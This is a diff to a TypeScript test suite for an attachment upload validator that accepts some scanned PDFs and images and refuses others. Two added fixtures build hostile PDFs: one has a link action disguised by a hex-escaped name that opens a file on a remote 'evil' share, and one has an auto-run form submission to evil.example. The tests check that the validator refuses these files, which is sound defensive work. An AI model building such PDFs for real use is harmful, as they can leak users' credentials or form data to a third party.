@@ -48,6 +48,12 @@ describe('stamped scans that are accepted', () => {
   it.each([
     ['a scan PDF rewritten by qpdf with object streams', 'scan.pdf', () => fixture('qpdf-objstm-scan.pdf'), 'application/pdf'],
     ['a PDF with its dictionaries in an object stream', 'form.pdf', () => Promise.resolve(buildPdf({ objectStream: true })), 'application/pdf'],
+    [
+      'a letter PDF with a web link (/URI)',
+      'letter.pdf',
+      () => Promise.resolve(buildPdf({ objectStream: true, objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.example.org/) >> >>'] })),
+      'application/pdf',
+    ],
     ['an ffmpeg frame (-frames:v 1)', 'frame.jpg', () => fixture('ffmpeg-frame.jpg'), 'image/jpeg'],
     ['an ImageMagick progressive JPEG', 'scan.jpg', () => fixture('imagemagick-progressive.jpg'), 'image/jpeg'],
     ['an ImageMagick CMYK JPEG', 'scan.jpg', () => fixture('imagemagick-cmyk.jpg'), 'image/jpeg'],
@@ -79,7 +85,12 @@ describe('stamped scans that are accepted', () => {
 
 const UNREADABLE = [422, 'ATTACHMENT_UNREADABLE', /已損毀、不完整/, /damaged, incomplete/] as const;
 const SCRIPT = [422, 'ATTACHMENT_HAS_SCRIPT', /含有程式碼（JavaScript）/, /^This PDF contains JavaScript/] as const;
-const EMBEDDED = [422, 'ATTACHMENT_HAS_EMBEDDED_CONTENT', /內含其他檔案、多媒體或開啟外部程式的動作/, /^This PDF contains other files, media or an action that starts a program/] as const;
+const EMBEDDED = [
+  422,
+  'ATTACHMENT_HAS_EMBEDDED_CONTENT',
+  /內含其他檔案、多媒體，或開啟外部程式、開啟其他文件、傳送或匯入表單資料的動作/,
+  /^This PDF contains other files, media or an action that starts a program, opens another document, or sends or imports form data/,
+] as const;
 const formatRefused = (format: string) =>
   [
     415,
@@ -118,6 +129,20 @@ describe('stamped scans that are refused', () => {
         ),
       ...SCRIPT,
       undefined,
+    ],
+    [
+      'a PDF whose link opens a document on another machine (/GoTo#52, escaped)',
+      'letter.pdf',
+      () => buildPdf({ objectStream: true, objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo#52 /F (\\\\\\\\evil\\\\s\\\\a.pdf) /D [0 /Fit] >> >>'] }),
+      ...EMBEDDED,
+      { feature: 'remoteGoTo' },
+    ],
+    [
+      'a PDF form that submits its fields to a server',
+      'form.pdf',
+      () => buildPdf({ catalog: '/OpenAction 4 0 R', objects: ['<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/c) >> >>'] }),
+      ...EMBEDDED,
+      { feature: 'submitForm' },
     ],
     ['a PDF with a file attached by qpdf', 'form.pdf', () => fixture('qpdf-objstm-attachment.pdf'), ...EMBEDDED, { feature: 'embeddedFile' }],
     [
@@ -189,6 +214,7 @@ describe('stamped scans that are refused', () => {
     ['a WebP', 'scan.webp', () => card(60, 80).webp().toBuffer(), ...formatRefused('WebP'), { format: 'WebP' }],
     ['an AVIF (HEIF written by sharp)', 'scan.avif', () => card(60, 80).heif({ compression: 'av1' }).toBuffer(), ...formatRefused('AVIF'), { format: 'AVIF' }],
     ['a BMP from scanner software', 'scan.bmp', () => fixture('scanner.bmp'), ...formatRefused('BMP'), { format: 'BMP' }],
+    ['a GIF (which album covers take)', 'scan.gif', () => card(60, 80).gif().toBuffer(), ...formatRefused('GIF'), { format: 'GIF', allowed: ['PDF', 'JPG', 'PNG'] }],
   ] as const)('refuses %s with its own message and keeps nothing', async (_label, name, make, status, code, zh, en, details) => {
     const bytes = await make();
     expect(bytes.length).toBeLessThan(5 * 1024 * 1024);
